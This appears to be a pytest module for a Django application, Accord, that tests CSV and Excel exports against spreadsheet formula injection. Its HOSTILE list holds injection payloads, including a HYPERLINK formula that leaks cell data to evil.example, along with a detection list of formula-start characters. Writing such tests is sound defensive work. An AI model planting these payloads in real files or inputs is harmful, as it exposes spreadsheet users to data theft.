"""Every CSV and spreadsheet Accord writes holds no live formula, whatever people typed (issue 14).

`DOWNLOADS` is the one table of what Accord writes as CSV or Excel: each web download and each
management command with a CSV output, and the modules that write its cells. The walk loads the
demo council, puts a hostile value (`HOSTILE`) in every free-text field of every model — names,
descriptions, references, notes, organisation names, risk titles, report text and all the rest,
found from the models rather than listed, so a new field is covered too — issues a report of every
kind, then renders every download and reads it back (the csv module; openpyxl for Excel). No cell
may be a formula or text that a spreadsheet would run, and each download must hold some of the
hostile text (guarded), so the check cannot pass on a download that left it out.

The table cannot fall behind the code:
- every URL of the project is opened by an administrator (the access tests' world), and each one
  that answers with CSV, Excel or a ZIP must be in the table (`NOT_WRITTEN_BY_ACCORD` names the one
  that serves back a file a person uploaded);
- every management command with a csv/xlsx format option must be in the table;
- the modules that call a CSV or Excel writer (csv.writer, csv.DictWriter, openpyxl's Workbook or
  WriteOnlyCell, or csv.writer's line end written by hand) are exactly the table's writers, each of
  which uses `accord.kernel.ui.spreadsheet`, and no module keeps its own list of formula characters.
"""

from __future__ import annotations

import ast
import csv
import functools
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from django.apps import apps
from django.conf import settings
from django.core.management import call_command, get_commands, load_command_class
from django.db import connection, models
from django.test import Client, override_settings
from django.urls import resolve, reverse
from openpyxl import load_workbook

from accord.kernel import clock
from accord.kernel.audit import guard
from accord.outputs.reports import periods
from accord.outputs.reports.builders import KINDS, PACK, kinds_for
from tests import factories as f

ACCORD = Path(__file__).resolve().parents[2] / "accord"
# Every council-wide report: Accord's own, and each framework's declared ones with the framework declaring it
DECLARED_BY = {k: fw for fw in ("chorley", "central_bedfordshire") for k in kinds_for(fw) if k not in KINDS}
EVERY_KIND = {**KINDS, **{k: kinds_for(fw)[k] for k, fw in DECLARED_BY.items()}}

HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    " =1+1",
    "＝1+1",  # full-width equals sign
)
# What identifies hostile text in a cell, wherever the writer put it (a cell may join several).
HOSTILE_MARK = re.compile(r"evil\.example|\+1\+1|-2\+3|@SUM\(1\)|=1")

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SPREADSHEET_TYPES = ("text/csv", XLSX, "application/vnd.ms-excel", "application/zip", "tab-separated")

# Text fields that hold identifiers Accord sets itself (codes from the framework, states, hashes),
# never text a person typed; every other CharField and TextField gets hostile text.
IDENTIFIERS = {
    "password",
    "username",
    "oidc_issuer",
    "oidc_subject",
    "framework_id",
    "framework_version",
    "tier_id",
    "override_tier_id",
    "obligation_id",
    "status",
    "from_status",
    "to_status",
    "artefact_id",
    "role_id",
    "template_id",
    "bank_id",
    "question_id",
    "slot",
    "section",
    "kind",
    "content_type",
    "category_id",
    "strategy_id",
    "library_id",
    "inherent_band",
    "current_band",
    "target_band",
    "band_id",
    "matrix",
    "token_hash",
    "secret_hash",
    "prefix",
    "item_key",
    "run",
    "sheet",
    "signature",
    "object_type",
}
NOT_WRITTEN_BY_ACCORD = {
    "evidence-file": "a file a person uploaded as evidence, served back byte for byte",
}


# --------------------------------------------------------------------------------------------
# The table
# --------------------------------------------------------------------------------------------


def _none(world: dict) -> list[list]:
    return [[]]


@dataclass(frozen=True)
class Download:
    name: str  # the URL name, or "accord <command>"
    formats: tuple[str, ...]  # the `fmt` of its address (the command's --format); "" for none
    writers: frozenset[str]  # the modules that write its cells
    objects: Callable[[dict], list[list]] = _none  # its address's other arguments, in the hostile world

    def requests(self, world: dict) -> list[str]:
        """Its addresses in the hostile world, or for a command its arguments."""
        if self.name.startswith("accord "):
            return [f"--format={fmt} --include-closed" for fmt in self.formats]
        return [
            reverse(self.name, args=[*args, fmt] if fmt else args)
            for args in self.objects(world)
            for fmt in self.formats
        ]


DOWNLOADS = [
    Download("public-data-csv", ("",), frozenset({"accord.outputs.public.csvfile"})),
    Download("transfer-export", ("xlsx", "csv"), frozenset({"accord.outputs.transfer.export"})),
    Download(
        "risk-export",
        ("csv", "xlsx"),
        frozenset({"accord.domain.risks.exports"}),
        lambda w: [[pk] for pk in w["with_risks"]],
    ),
    Download("council-risks-export", ("csv", "xlsx"), frozenset({"accord.domain.risks.exports"})),
    Download(
        "report-download",
        ("xlsx",),
        frozenset({"accord.outputs.reports.excel"}),
        lambda w: [[kind] for kind in EVERY_KIND],
    ),
    Download(
        "partnership-pack-download",
        ("xlsx",),
        frozenset({"accord.outputs.reports.excel"}),
        lambda w: [[pk] for pk in w["partnerships"]],
    ),
    Download(
        "report-snapshot-download",
        ("xlsx",),
        frozenset({"accord.outputs.reports.excel"}),
        lambda w: [[pk] for pk in w["snapshots"]],
    ),
    Download(
        "accord obligations", ("csv",), frozenset({"accord.frameworks.management.commands.obligations"})
    ),
]
COMMANDS = {d.name.removeprefix("accord "): d for d in DOWNLOADS if d.name.startswith("accord ")}
URLS = {d.name: d for d in DOWNLOADS if not d.name.startswith("accord ")}


# --------------------------------------------------------------------------------------------
# Reading what a download holds
# --------------------------------------------------------------------------------------------


@dataclass
class Cell:
    where: str
    value: object
    data_type: str = "s"  # openpyxl's: "s" text, "n" number, "d" date, "f" formula, ...


def csv_cells(where: str, content: bytes) -> Iterator[Cell]:
    text = content.decode("utf-8-sig")
    for row_number, row in enumerate(csv.reader(io.StringIO(text, newline="")), 1):
        for column, value in enumerate(row, 1):
            yield Cell(f"{where} row {row_number} column {column}", value)


def xlsx_cells(where: str, content: bytes) -> Iterator[Cell]:
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield Cell(f"{where} {sheet.title}!{cell.coordinate}", cell.value, cell.data_type)


def cells_of(where: str, content_type: str, content: bytes) -> Iterator[Cell]:
    if content_type.startswith("text/csv"):
        yield from csv_cells(where, content)
    elif content_type.startswith(XLSX):
        yield from xlsx_cells(where, content)
    elif content_type.startswith("application/zip"):
        archive = zipfile.ZipFile(io.BytesIO(content))
        for member in archive.namelist():
            kind = "text/csv" if member.endswith(".csv") else XLSX if member.endswith(".xlsx") else None
            assert kind, f"{where} holds {member}, which this test cannot read"
            yield from cells_of(f"{where}:{member}", kind, archive.read(member))
    else:
        raise AssertionError(f"{where} answered {content_type}, not CSV or Excel")


NUMBER = re.compile(r"-?\d+(\.\d+)?")
FORMULA_FIRST = tuple("=+-@＝＋－＠")


def live_formula(cell: Cell) -> bool:
    """Whether a spreadsheet would take the cell for a formula (an independent check, not the
    application's own rule)."""
    if cell.data_type == "f":
        return True
    if not isinstance(cell.value, str):
        return False  # a real number or date
    text = cell.value
    if NUMBER.fullmatch(text):
        return False  # a number written as CSV text is data
    return text.startswith(("\t", "\r")) or text.lstrip().startswith(FORMULA_FIRST)


# --------------------------------------------------------------------------------------------
# The hostile register
# --------------------------------------------------------------------------------------------


def free_text_fields(model: type[models.Model]) -> list[models.Field]:
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not field.choices
        and not field.primary_key
        and field.name not in IDENTIFIERS
    ]


def unique_names(model: type[models.Model]) -> set[str]:
    """The fields whose values must differ from row to row."""
    names = {field.name for field in model._meta.concrete_fields if field.unique}
    for constraint in model._meta.constraints:
        names |= set(getattr(constraint, "fields", ()))
    for together in model._meta.unique_together:
        names |= set(together)
    return names


def hostile(row: int, column: int, field: models.Field, pk: int, unique: set[str]) -> str:
    value = HOSTILE[(row + column) % len(HOSTILE)]
    suffix = f" {pk}" if field.name in unique else ""
    limit = (field.max_length or 10_000) - len(suffix)
    return value[:limit] + suffix


def make_everything_hostile() -> int:
    """Hostile text in every free-text field of every row, history included (its append-only guard
    lifted inside the test's transaction); the number of values written."""
    guard.remove(connection)
    written = 0
    for model in apps.get_models():
        if not model.__module__.startswith("accord."):
            continue
        fields = free_text_fields(model)
        if not fields:
            continue
        unique = unique_names(model)
        rows = models.QuerySet(model)  # the plain queryset: append-only models refuse their managers' update
        for row, pk in enumerate(rows.order_by("pk").values_list("pk", flat=True)):
            values = {field.attname: hostile(row, n, field, pk, unique) for n, field in enumerate(fields)}
            rows.filter(pk=pk).update(**values)
            written += len(values)
    guard.install(connection)
    return written


@pytest.fixture
def hostile_world(db, client: Client) -> dict:
    from accord.domain.risks.models import Risk
    from accord.outputs.reports.models import ReportSnapshot
    from accord.register.models import Partnership
    from accord.site.demo import load_demo

    load_demo()
    Partnership.objects.update(is_published=True)
    assert make_everything_hostile() > 1000
    admin = f.make_user("administrator")
    client.force_login(admin)
    partnerships = list(Partnership.objects.order_by("pk").values_list("pk", flat=True))
    today = clock.today()
    for kind in EVERY_KIND.values():  # issued reports freeze the hostile text, with hostile recommendations
        period = periods.last_complete(kind.cadence, today).id
        # a council's own report is issued under its own framework (the only one that offers it)
        with override_settings(ACCORD_FRAMEWORK=DECLARED_BY.get(kind.id, settings.ACCORD_FRAMEWORK)):
            client.post(
                reverse("report-issue", args=[kind.id]), {"period": period, "recommendations": HOSTILE[0]}
            )
    with_risks = sorted(set(Risk.objects.values_list("partnership_id", flat=True)))
    period = periods.last_complete(PACK.cadence, today).id
    client.post(reverse("partnership-pack-issue", args=[with_risks[0]]), {"period": period})
    snapshots = list(ReportSnapshot.objects.filter(issued_by=admin).values_list("pk", flat=True))
    assert len(snapshots) == len(EVERY_KIND) + 1, "every kind of report was issued"
    assert PACK.id in set(ReportSnapshot.objects.filter(pk__in=snapshots).values_list("kind", flat=True))
    return {"client": client, "partnerships": partnerships, "with_risks": with_risks, "snapshots": snapshots}


def render(download: Download, request: str, client: Client) -> list[Cell]:
    if download.name in URLS:
        match = resolve(urlsplit(request).path)
        kind = EVERY_KIND.get(match.kwargs.get("kind", "")) if download.name == "report-download" else None
        # a council's own report is downloaded under its own framework (the only one that offers it)
        with override_settings(
            ACCORD_FRAMEWORK=DECLARED_BY.get(kind.id if kind else "", settings.ACCORD_FRAMEWORK)
        ):
            response = client.get(request)
        assert response.status_code == 200, f"{request} answered {response.status_code}"
        content = b"".join(response.streaming_content) if response.streaming else response.content
        return list(cells_of(request, response["Content-Type"], content))
    out = io.StringIO()
    call_command(download.name.removeprefix("accord "), *request.split(), stdout=out)
    content_type = "text/csv" if "--format=csv" in request else XLSX
    return list(cells_of(f"{download.name} {request}", content_type, out.getvalue().encode()))


# --------------------------------------------------------------------------------------------
# The walk
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("download", DOWNLOADS, ids=lambda d: d.name)
def test_no_download_holds_a_live_formula_whatever_was_typed(download, hostile_world):
    requests = download.requests(hostile_world)
    assert requests, f"{download.name}: nothing to download in the hostile register"
    for request in requests:
        cells = render(download, request, hostile_world["client"])
        live = [f"{c.where}: {c.value!r}" for c in cells if live_formula(c)]
        assert not live, "cells a spreadsheet would run:\n" + "\n".join(live[:20])
        guarded = [c for c in cells if isinstance(c.value, str) and HOSTILE_MARK.search(c.value)]
        assert guarded, f"{request}: none of the hostile text reached this download, so it tests nothing"
        assert all(c.data_type == "s" for c in guarded)


def test_the_hostile_text_reaches_the_downloads_guarded_not_changed(hostile_world):
    """The guard is one apostrophe in front: the text itself is written as it was typed."""
    cells = render(
        URLS["council-risks-export"], reverse("council-risks-export", args=["csv"]), hostile_world["client"]
    )
    values = {c.value for c in cells}
    assert "'" + HOSTILE[0] in values  # a risk's lead officers, say
    assert "'@SUM(1)" in values or "'-2+3" in values


# --------------------------------------------------------------------------------------------
# The table is complete
# --------------------------------------------------------------------------------------------


SPREADSHEET_FORMATS = ("csv", "tsv", "xlsx", "xls", "ods", "zip")


def _is_spreadsheet(response) -> bool:
    content_type = response.get("Content-Type", "")
    disposition = response.get("Content-Disposition", "")
    return content_type.startswith(SPREADSHEET_TYPES) or bool(
        re.search(r"\.(csv|tsv|xlsx|xls|ods|zip)\b", disposition)
    )


def test_every_url_that_answers_with_a_spreadsheet_is_walked(users, own_partnership, other_partnership):
    """Every URL of the project, opened by an administrator; an address with a format in it is
    also tried with every spreadsheet format."""
    from tests.access_cases.world import build_world, url_cases

    client = Client()
    client.force_login(users["administrator"])
    cases = [
        (name, url) for name, url, _ in url_cases(build_world(users, own_partnership, other_partnership))
    ]
    found = set()
    for name, url in cases:
        if name == "sign-out":
            continue
        match = resolve(urlsplit(url).path)
        tries = {url}
        if "fmt" in match.kwargs:
            tries |= {reverse(name, kwargs=match.kwargs | {"fmt": fmt}) for fmt in SPREADSHEET_FORMATS}
        for address in tries:
            response = client.get(address)
            if response.status_code == 200 and _is_spreadsheet(response):
                found.add((name, resolve(urlsplit(address).path).kwargs.get("fmt", "")))
    assert len(cases) > 100
    walked = {(d.name, fmt) for d in URLS.values() for fmt in d.formats}
    assert {name for name, _ in found} - set(NOT_WRITTEN_BY_ACCORD) == set(URLS), "downloads missing"
    assert {pair for pair in found if pair[0] not in NOT_WRITTEN_BY_ACCORD} == walked, "formats missing"
    assert set(NOT_WRITTEN_BY_ACCORD) <= {name for name, _ in cases}


def test_every_command_with_a_spreadsheet_format_is_walked():
    found = set()
    for name, app in get_commands().items():
        if not app.startswith("accord"):
            continue
        parser = load_command_class(app, name).create_parser("accord", name)
        for action in parser._actions:
            for choice in action.choices or ():
                if choice in SPREADSHEET_FORMATS:
                    found.add((name, choice))
    assert found == {(name, fmt) for name, d in COMMANDS.items() for fmt in d.formats}


@functools.cache
def parsed_modules() -> dict[str, ast.Module]:
    """Every module of Accord but its migrations, parsed, by dotted name."""
    found = {}
    for path in sorted(ACCORD.rglob("*.py")):
        if "migrations" not in path.parts:
            dotted = ".".join(path.relative_to(ACCORD.parent).with_suffix("").parts)
            found[dotted] = ast.parse(path.read_text(), str(path))
    return found


WRITER_CALLS = {
    ("csv", "writer"),
    ("csv", "DictWriter"),
    ("openpyxl", "Workbook"),
    ("openpyxl.workbook", "Workbook"),
    ("openpyxl.cell", "WriteOnlyCell"),
    ("openpyxl.cell.cell", "WriteOnlyCell"),
    ("xlsxwriter", "Workbook"),
}
THE_GUARD = "accord.kernel.ui.spreadsheet"


def writes_spreadsheets(tree: ast.Module) -> bool:
    imported: dict[str, tuple[str, str]] = {}  # local name -> (module, name)
    modules: dict[str, str] = {}  # local name -> module
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for alias in node.names:
                modules[alias.asname or alias.name] = alias.name
        elif isinstance(node, ast.ImportFrom) and node.module:
            for alias in node.names:
                imported[alias.asname or alias.name] = (node.module, alias.name)
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            func = node.func
            if isinstance(func, ast.Name) and imported.get(func.id) in WRITER_CALLS:
                return True
            if isinstance(func, ast.Attribute) and func.attr in ("to_csv", "to_excel"):
                return True
            if (
                isinstance(func, ast.Attribute)
                and isinstance(func.value, ast.Name)
                and (modules.get(func.value.id), func.attr) in WRITER_CALLS
            ):
                return True
        # csv.writer's record separator, kept as a constant by a module that writes CSV itself
        if (
            isinstance(node, ast.Assign)
            and isinstance(node.value, ast.Constant)
            and node.value.value == "\r\n"
        ):
            return True
    return False


def imports_the_guard(tree: ast.Module) -> bool:
    return any(isinstance(node, ast.ImportFrom) and node.module == THE_GUARD for node in ast.walk(tree))


def test_the_modules_that_write_spreadsheets_are_the_tables_writers_and_use_the_one_guard():
    trees = parsed_modules()
    writers = {name for name, tree in trees.items() if writes_spreadsheets(tree) and name != THE_GUARD}
    assert writers == set().union(*(d.writers for d in DOWNLOADS))
    assert [name for name in writers if not imports_the_guard(trees[name])] == []


def _formula_characters(node: ast.AST) -> bool:
    """A literal list of the characters that start a formula, or a startswith("=") test."""
    if isinstance(node, ast.Tuple | ast.List | ast.Set):
        found = {e.value for e in node.elts if isinstance(e, ast.Constant)}
        return {"=", "@"} <= found
    if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "startswith":
        return any(
            isinstance(arg, ast.Constant) and arg.value == "=" or _formula_characters(arg)
            for arg in node.args
        )
    return False


def test_no_module_keeps_its_own_copy_of_the_formula_rule():
    copies = [
        f"{name}:{node.lineno}"
        for name, tree in parsed_modules().items()
        if name != THE_GUARD
        for node in ast.walk(tree)
        if _formula_characters(node)
    ]
    assert copies == []
